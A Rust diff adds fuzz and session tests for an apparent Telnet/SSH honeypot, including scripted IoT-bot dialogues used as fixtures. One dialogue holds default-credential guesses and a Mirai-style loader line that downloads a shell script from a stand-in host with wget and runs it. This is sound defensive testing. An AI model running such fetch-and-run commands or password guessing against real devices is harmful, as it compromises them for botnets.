@@ -533,6 +533,231 @@ mod tests {
         );
     }
 
+    fn telnet_fuzz_server(store: &NullStore) -> TelnetServer<WireHandler<'_>> {
+        TelnetServer::new(WireHandler::new(AuthPolicy::default(), store), "svr04")
+    }
+
+    /// What IoT-bot-style Telnet clients send over whole dialogues with
+    /// the machine `telnet_fuzz_server` builds: a scout that fails three
+    /// logins, a bot that runs commands and a loader, each ending `exit`.
+    fn recorded_telnet_streams(store: &NullStore) -> Vec<Vec<u8>> {
+        let script = |logins: &[(&str, &str)], commands: &[&str]| TelnetScript {
+            logins: logins
+                .iter()
+                .map(|(u, p)| (u.to_string(), p.to_string()))
+                .collect(),
+            commands: commands.iter().map(|c| c.to_string()).collect(),
+        };
+        let scripts = [
+            script(
+                &[("admin", "admin"), ("root", "root"), ("guest", "guest")],
+                &[],
+            ),
+            script(&[("root", "admin")], &["uname -a", "cat /proc/cpuinfo"]),
+            script(
+                &[("root", "root"), ("root", "vertex25ektks123")],
+                &[
+                    "cd /tmp",
+                    "wget http://198.51.100.7/mirai.sh",
+                    "sh mirai.sh",
+                ],
+            ),
+        ];
+        scripts
+            .into_iter()
+            .map(|script| {
+                let mut client = TelnetClient::new(script);
+                let mut server = telnet_fuzz_server(store);
+                let mut sent = Vec::new();
+                loop {
+                    let (up, down) = (client.take_output(), server.take_output());
+                    if up.is_empty() && down.is_empty() {
+                        break;
+                    }
+                    sent.extend_from_slice(&up);
+                    server.input(&up).expect("a recorded dialogue is valid");
+                    client.input(&down).expect("a recorded dialogue is valid");
+                }
+                sent.extend_from_slice(b"exit\r\n");
+                sent
+            })
+            .collect()
+    }
+
+    /// Random Telnet framing: option negotiations, subnegotiations that
+    /// end, run on past the 4 KiB cap or hold a stray byte after `IAC`,
+    /// escaped 255s, lines and bare junk.
+    fn iac_runs(rng: &mut rand::rngs::StdRng) -> Vec<u8> {
+        use rand::Rng;
+        use telwire::codec::{DO, IAC, SB, SE, WILL};
+        let mut out = Vec::new();
+        for _ in 0..rng.random_range(1..12u32) {
+            match rng.random_range(0..6u32) {
+                0 => out.extend_from_slice(&[IAC, [WILL, DO][rng.random_range(0..2usize)], {
+                    rng.random::<u32>() as u8
+                }]),
+                1 | 2 => {
+                    out.extend_from_slice(&[IAC, SB, rng.random::<u32>() as u8]);
+                    let len = rng.random_range(0..6_000usize);
+                    out.extend((0..len).map(|_| match rng.random_range(0..40u32) {
+                        0 => IAC,
+                        _ => rng.random::<u32>() as u8,
+                    }));
+                    if rng.random::<bool>() {
+                        out.extend_from_slice(&[IAC, SE]);
+                    }
+                }
+                3 => out.extend_from_slice(&[IAC, IAC]),
+                4 => {
+                    let len = rng.random_range(0..5_000usize);
+                    out.extend((0..len).map(|_| b'a' + (rng.random::<u32>() % 26) as u8));
+                    out.extend_from_slice(b"\r\n");
+                }
+                _ => {
+                    let len = rng.random_range(0..64usize);
+                    out.extend((0..len).map(|_| rng.random::<u32>() as u8));
+                }
+            }
+        }
+        out
+    }
+
+    /// Feeds `stream` to a fresh Telnet machine in random chunks. After
+    /// every chunk its line and subnegotiation buffers are within 4 KiB;
+    /// an error leaves it closed, and once closed it answers nothing and
+    /// records nothing more. Returns whether any chunk was refused, and
+    /// what the machine answered while it was open.
+    fn feed_telnet_in_chunks(
+        store: &NullStore,
+        stream: &[u8],
+        rng: &mut rand::rngs::StdRng,
+    ) -> (bool, Vec<u8>) {
+        use rand::Rng;
+        let mut server = telnet_fuzz_server(store);
+        let (mut at, mut failed, mut answer) = (0, false, server.take_output());
+        while at < stream.len() {
+            let end = (at + rng.random_range(1..=600usize)).min(stream.len());
+            let was_closed = server.is_closed();
+            let r = server.input(&stream[at..end]);
+            at = end;
+            let (line, sub) = server.buffered();
+            assert!(
+                line <= telwire::server::MAX_LINE,
+                "line buffer holds {line} bytes"
+            );
+            assert!(
+                sub <= telwire::codec::MAX_SUBNEGOTIATION,
+                "codec buffer holds {sub} bytes"
+            );
+            let out = server.take_output();
+            if was_closed {
+                assert!(r.is_ok(), "a closed machine refused input");
+                assert!(out.is_empty(), "a closed machine answered");
+            } else if r.is_err() {
+                assert!(server.is_closed(), "an error left the machine open");
+                failed = true;
+            } else {
+                answer.extend_from_slice(&out);
+            }
+        }
+        if server.is_closed() {
+            let seen = (server.auth_log().len(), server.exec_log().len());
+            assert!(server.input(stream).is_ok());
+            let refused_option = [telwire::codec::IAC, telwire::codec::DO, 99];
+            assert!(server.input(&refused_option).is_ok());
+            assert!(server.take_output().is_empty(), "a closed machine answered");
+            assert_eq!((server.auth_log().len(), server.exec_log().len()), seen);
+            assert_eq!(server.buffered(), (0, 0), "a closed machine buffers");
+        }
+        (failed, answer)
+    }
+
+    /// Seeded fuzz of `TelnetServer::input` through `WireHandler`, the
+    /// parser every Telnet attacker reaches: arbitrary bytes, IAC/SB
+    /// runs, and truncations and single-byte flips of recorded
+    /// dialogues, each cut into random 1–600-byte chunks.
+    #[test]
+    fn telnet_server_input_survives_seeded_fuzz() {
+        use rand::rngs::StdRng;
+        use rand::{Rng, SeedableRng};
+        let store = NullStore;
+        let streams = recorded_telnet_streams(&store);
+        let mut rng = StdRng::seed_from_u64(0x7e1_0052);
+        let (mut refused, mut closed_by_exit) = (0, 0);
+        for case in 0..3_000 {
+            let base = &streams[case % streams.len()];
+            match case % 4 {
+                0 => {
+                    let len = rng.random_range(0..2_048usize);
+                    let junk: Vec<u8> = (0..len).map(|_| rng.random::<u32>() as u8).collect();
+                    refused += feed_telnet_in_chunks(&store, &junk, &mut rng).0 as u32;
+                }
+                1 => {
+                    let runs = iac_runs(&mut rng);
+                    refused += feed_telnet_in_chunks(&store, &runs, &mut rng).0 as u32;
+                }
+                2 => {
+                    // A truncated dialogue is only unfinished: never
+                    // refused, and answered as if it came in one piece.
+                    let cut = rng.random_range(0..=base.len());
+                    let (failed, answer) = feed_telnet_in_chunks(&store, &base[..cut], &mut rng);
+                    assert!(!failed, "a truncated dialogue was refused (cut at {cut})");
+                    let mut whole = telnet_fuzz_server(&store);
+                    whole.input(&base[..cut]).unwrap();
+                    closed_by_exit += whole.is_closed() as u32;
+                    assert_eq!(answer, whole.take_output(), "cut at {cut}");
+                }
+                _ => {
+                    let mut flipped = base.clone();
+                    let at = rng.random_range(0..flipped.len());
+                    flipped[at] ^= rng.random_range(1..256u32) as u8;
+                    refused += feed_telnet_in_chunks(&store, &flipped, &mut rng).0 as u32;
+                }
+            }
+        }
+        // The runs must reach the error paths, and the dialogues the
+        // closes that `exit` and failed logins make.
+        assert!(refused > 300, "only {refused} cases were refused");
+        assert!(
+            closed_by_exit > 40,
+            "only {closed_by_exit} dialogues closed"
+        );
+    }
+
+    /// One exec whose output is larger than an SSH packet: the server
+    /// sends it in several `CHANNEL_DATA`s, so the session keeps its
+    /// login and command, and the client gets every byte back in order.
+    #[test]
+    fn command_output_past_one_packet_keeps_the_session() {
+        let store = NullStore;
+        let command = format!(
+            "echo {} > /tmp/a; {}",
+            "A".repeat(1000),
+            ["cat /tmp/a"; 40].join("; ")
+        );
+        let expected = format!("{}\n", "A".repeat(1000)).repeat(40);
+        assert!(expected.len() > sshwire::packet::MAX_PACKET);
+        let script = ClientScript::new("root", &["admin"], &[&command]);
+
+        let (rec, _) =
+            run_wire_session(&meta(), script.clone(), AuthPolicy::default(), &store).unwrap();
+        assert_eq!(rec.logins.len(), 1);
+        assert_eq!(rec.accepted_username(), Some("root"));
+        assert_eq!(rec.commands.len(), 1);
+        assert_eq!(rec.commands[0].input, command);
+        assert!(rec.commands[0].known);
+
+        let (log, _) = run_dialogue(SshClient::new(script, vec![7]), fuzz_server(&store)).unwrap();
+        let output = log.client_events.iter().find_map(|e| match e {
+            sshwire::ClientEvent::CommandOutput { output, status, .. } => {
+                assert_eq!(*status, Some(0));
+                Some(output.clone())
+            }
+            _ => None,
+        });
+        assert_eq!(output.as_deref(), Some(expected.as_bytes()));
+    }
+
     #[test]
     fn shell_is_built_on_the_first_command() {
         let store = NullStore;
